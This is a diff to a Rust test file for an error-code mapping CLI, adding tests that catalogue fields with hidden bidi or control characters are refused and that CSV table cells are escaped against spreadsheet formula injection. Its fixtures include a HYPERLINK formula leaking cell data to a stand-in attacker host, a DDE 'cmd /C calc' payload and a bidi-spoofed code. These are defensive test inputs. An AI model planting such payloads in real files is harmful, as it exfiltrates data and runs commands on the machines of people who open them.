@@ -113,7 +113,7 @@ present = ["/spoof"]
 "#;
 
 #[test]
-fn bidi_controls_in_user_catalogue_codes_are_shown_escaped_on_the_terminal() {
+fn a_user_catalogue_whose_code_hides_a_bidi_control_is_refused_with_it_shown_escaped() {
     let folder = tempdir("spoof");
     let file = folder.join("spoof.toml");
     std::fs::write(&file, SPOOFING_CATALOGUE).expect("a temporary file");
@@ -123,13 +123,17 @@ fn bidi_controls_in_user_catalogue_codes_are_shown_escaped_on_the_terminal() {
         vec!["--catalog", file, "vendors"],
         vec!["--catalog", file, "table", "spoof", "wilddog"],
         vec!["--catalog", file, "explain", "spoof:ad\u{202e}nimda"],
+        vec!["check", file],
     ] {
         let shown = run(errmap().args(&args));
+        assert_eq!(shown.code, 2, "{args:?}: {}", shown.stdout);
         assert_eq!(raw_controls(&shown.stdout), [], "{args:?}: {:?}", shown.stdout);
         assert_eq!(raw_controls(&shown.stderr), [], "{args:?}: {:?}", shown.stderr);
+        let said = format!("{}{}", shown.stdout, shown.stderr);
+        assert!(said.contains(&format!("{file}:6:8: field `code` contains the invisible character U+202E")), "{said}");
+        assert!(said.contains(&format!("{file}:2:8: field `name` contains control characters")), "{said}");
     }
-    let codes = run(errmap().args(["--catalog", file, "codes", "spoof"]));
-    assert!(codes.stdout.contains("ad<U+202E>nimda"), "{}", codes.stdout);
+    let _ = std::fs::remove_dir_all(&folder);
 }
 
 // --- Bounded reads ---------------------------------------------------------------------
@@ -246,4 +250,233 @@ fn a_body_nested_past_the_depth_limit_keeps_the_code_at_its_top() {
         (&json["vendor"], &json["code"], &json["kind"]),
         (&"wilddog".into(), &"22011".into(), &"user_not_found".into())
     );
+}
+
+// --- Spreadsheet formulas --------------------------------------------------------------
+
+/// A user catalogue whose codes, symbols and messages a spreadsheet would run as
+/// formulas, and the code `-1` that is only a number.
+const FORMULA_CATALOGUE: &str = r#"id = "formulas"
+name = "Formulas"
+language = "en"
+
+[[code]]
+code = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+symbol = "@SUM(A1)"
+message = "+cmd|' /C calc'!A0"
+kind = "user_not_found"
+match = "exact"
+
+[[code]]
+code = "-1"
+message = "  =1+1"
+kind = "bad_password"
+match = "exact"
+"#;
+
+/// The fields of RFC 4180 CSV text, row by row, as a spreadsheet reads them.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let (mut row, mut field, mut quoted, mut chars) = (Vec::new(), String::new(), false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                chars.next();
+                field.push('"');
+            }
+            '"' => quoted = !quoted,
+            ',' if !quoted => row.push(std::mem::take(&mut field)),
+            '\r' if !quoted => {}
+            '\n' if !quoted => {
+                row.push(std::mem::take(&mut field));
+                rows.push(std::mem::take(&mut row));
+            }
+            c => field.push(c),
+        }
+    }
+    rows
+}
+
+fn formula_start(cell: &str) -> bool {
+    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
+}
+
+#[test]
+fn table_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() {
+    let folder = tempdir("formulas");
+    let file = folder.join("formulas.toml");
+    std::fs::write(&file, FORMULA_CATALOGUE).expect("a temporary file");
+    let file = file.to_str().expect("a UTF-8 path");
+    let hyperlink = r#"=HYPERLINK("https://evil.example/?leak="&A1,"click")"#;
+    let mut cells = Vec::new();
+    for (from, to) in [("formulas", "wilddog"), ("wilddog", "formulas")] {
+        let shown = run(errmap().args(["--catalog", file, "table", from, to, "--format", "csv"]));
+        assert_eq!(shown.code, 0, "{}", shown.stderr);
+        let rows = csv_rows(&shown.stdout);
+        assert!(rows.len() > 1, "{}", shown.stdout);
+        cells.extend(rows.into_iter().flatten());
+    }
+    let formulas: Vec<&String> = cells.iter().filter(|c| formula_start(c)).collect();
+    assert_eq!(formulas, Vec::<&String>::new(), "cells a spreadsheet runs");
+    for expected in [format!("'{hyperlink}"), "'@SUM(A1)".into(), "'+cmd|' /C calc'!A0".into(), "'-1".into()] {
+        assert!(cells.contains(&expected), "no cell {expected:?} in {cells:?}");
+    }
+    assert!(cells.contains(&"'  =1+1".to_string()), "spaces before the formula: {cells:?}");
+
+    for (from, to) in [("formulas", "wilddog"), ("wilddog", "formulas")] {
+        let shown = run(errmap().args(["--catalog", file, "table", from, to, "--format", "sssom"]));
+        assert_eq!(shown.code, 0, "{}", shown.stderr);
+        let rows: Vec<Vec<&str>> =
+            shown.stdout.lines().filter(|l| !l.starts_with('#')).map(|l| l.split('\t').collect()).collect();
+        assert!(rows.iter().all(|r| r.len() == 10), "{}", shown.stdout);
+        for cell in rows.iter().flatten() {
+            // A quoted cell is read without its quotes, as by a spreadsheet.
+            let read = cell.strip_prefix('"').and_then(|c| c.strip_suffix('"')).map(|c| c.replace("\"\"", "\""));
+            let read = read.as_deref().unwrap_or(cell);
+            assert!(!formula_start(read), "{from} → {to}: {cell:?} in\n{}", shown.stdout);
+        }
+        let labels: Vec<&str> = rows.iter().flat_map(|r| [r[1], r[4]]).collect();
+        assert!(labels.contains(&"\"'+cmd|' /C calc'!A0\""), "{labels:?}");
+    }
+    // Cells that do not start so are written as before.
+    let plain = run(errmap().args(["table", "wilddog", "authing", "--format", "csv"]));
+    assert!(!plain.stdout.contains(",\"'"), "{}", plain.stdout);
+    let _ = std::fs::remove_dir_all(&folder);
+}
+
+// --- check and --catalogue agree ---------------------------------------------------------
+
+/// A catalogue with `head` for its first lines and one valid code.
+fn catalogue_with(head: &str) -> String {
+    format!(
+        "{head}\nname = \"Mine\"\nlanguage = \"en\"\n\n[[code]]\ncode = \"E1\"\nmessage = \"x\"\nkind = \"user_not_found\"\nmatch = \"exact\"\n"
+    )
+}
+
+/// A catalogue whose codes hide bidi, zero-width, BOM and control characters, and
+/// whose other fields carry control characters.
+const HIDDEN_CHARACTERS: &str = r#"id = "hidden"
+name = "Hidden\u009b31m"
+language = "en"
+
+[[code]]
+code = "ad\u202enimda"
+symbol = "sym\u200b"
+message = "x"
+description = "two\nlines are fine, \u0007 is not"
+kind = "bad_password"
+match = "close"
+reason = "because\u001b[31m"
+
+[[code]]
+code = "\ufeffE2"
+message = "y"
+kind = "bad_password"
+match = "exact"
+
+[[code]]
+code = "E\u0000"
+message = "z"
+kind = "bad_password"
+match = "exact"
+
+[[code]]
+code = "E\u2066x\u2069"
+message = "w"
+kind = "bad_password"
+match = "exact"
+
+[[code]]
+code = "E\u0085"
+message = "v"
+kind = "bad_password"
+match = "exact"
+
+[[setting]]
+name = "a setting"
+merges = ["E1"]
+note = "note \u0085 here"
+
+[[code]]
+code = "E1"
+message = "u"
+kind = "bad_password"
+match = "exact"
+"#;
+
+/// A problem `errmap check` should report: line, column and part of the sentence.
+type Expected = (usize, usize, &'static str);
+
+#[test]
+fn check_refuses_what_the_catalogue_flag_refuses_with_every_problem_at_its_place() {
+    let folder = tempdir("check-agrees");
+    let write = |name: &str, text: &str| {
+        let path = folder.join(name);
+        std::fs::write(&path, text).expect("a temporary file");
+        path.to_str().expect("a UTF-8 path").to_string()
+    };
+    let cases: Vec<(String, Vec<Expected>)> = vec![
+        (write("builtin-id.toml", &catalogue_with("id = \"wilddog\"")), vec![(1, 6, "add `overrides = true`")]),
+        (
+            write("builtin-alias.toml", &catalogue_with("id = \"mine\"\naliases = [\"fine\", \"authing\"]")),
+            vec![(2, 20, "the alias 'authing' is a name of the built-in catalogue 'authing'")],
+        ),
+        (
+            write(
+                "overrides-alias.toml",
+                &catalogue_with("id = \"wilddog\"\noverrides = true\naliases = [\"authing\"]"),
+            ),
+            vec![(3, 12, "the alias 'authing'")],
+        ),
+        (
+            write("hidden.toml", HIDDEN_CHARACTERS),
+            vec![
+                (2, 8, "field `name` contains control characters"),
+                (6, 8, "field `code` contains the invisible character U+202E"),
+                (7, 10, "field `symbol` contains the invisible character U+200B"),
+                (9, 15, "field `description` contains control characters"),
+                (12, 10, "field `reason` contains control characters"),
+                (15, 8, "field `code` contains the invisible character U+FEFF"),
+                (21, 8, "field `code` contains control characters"),
+                (27, 8, "field `code` contains the invisible character U+2066"),
+                (33, 8, "field `code` contains control characters"),
+                (41, 8, "field `note` contains control characters"),
+            ],
+        ),
+        (
+            // A clash and the file's own problems, all at once.
+            write("both.toml", &catalogue_with("id = \"wilddog\"").replace("user_not_found", "user_not_fund")),
+            vec![(1, 6, "add `overrides = true`"), (8, 8, "unknown kind 'user_not_fund'")],
+        ),
+    ];
+    for (path, expected) in &cases {
+        let shown = run(errmap().args(["check", path]));
+        assert_eq!(shown.code, 2, "{path}: {}", shown.stdout);
+        let problems: Vec<&str> = shown.stdout.lines().filter(|l| l.starts_with(&format!("{path}:"))).collect();
+        assert_eq!(problems.len(), expected.len(), "{path}: every problem, no more:\n{}", shown.stdout);
+        for (line, column, message) in expected {
+            let at = format!("{path}:{line}:{column}: ");
+            let found = problems.iter().find(|l| l.starts_with(&at));
+            assert!(found.is_some_and(|l| l.contains(message)), "{at}{message}:\n{}", shown.stdout);
+        }
+        let loaded = run(errmap().args(["--catalog", path, "vendors"]));
+        assert_eq!(loaded.code, 2, "--catalog loads what check refuses: {path}");
+        assert!(loaded.stderr.contains(expected[0].2), "{path}: {}", loaded.stderr);
+    }
+    // The same id with `overrides = true` loads, and check says so without asking for it.
+    let overrides = write("overrides.toml", &catalogue_with("id = \"wilddog\"\noverrides = true"));
+    let shown = run(errmap().args(["check", &overrides]));
+    assert_eq!(shown.code, 0, "{}", shown.stdout);
+    assert!(shown.stdout.contains("replaces the built-in catalogue 'wilddog'"), "{}", shown.stdout);
+    assert!(!shown.stdout.contains("needs `overrides") && !shown.stdout.contains("add `overrides"), "{}", shown.stdout);
+    assert_eq!(run(errmap().args(["--catalog", &overrides, "vendors"])).code, 0);
+    // Two files of one id: the second is refused by both, pointing at its id.
+    let first = write("a.toml", &catalogue_with("id = \"mine\""));
+    let second = write("b.toml", &catalogue_with("id = \"mine\""));
+    let shown = run(errmap().args(["check", &first, &second]));
+    assert_eq!(shown.code, 2, "{}", shown.stdout);
+    assert!(shown.stdout.contains(&format!("{second}:1:6: the name 'mine' is taken")), "{}", shown.stdout);
+    let loaded = run(errmap().args(["--catalog", &first, "--catalog", &second, "vendors"]));
+    assert_eq!(loaded.code, 2, "{}", loaded.stdout);
+    let _ = std::fs::remove_dir_all(&folder);
 }
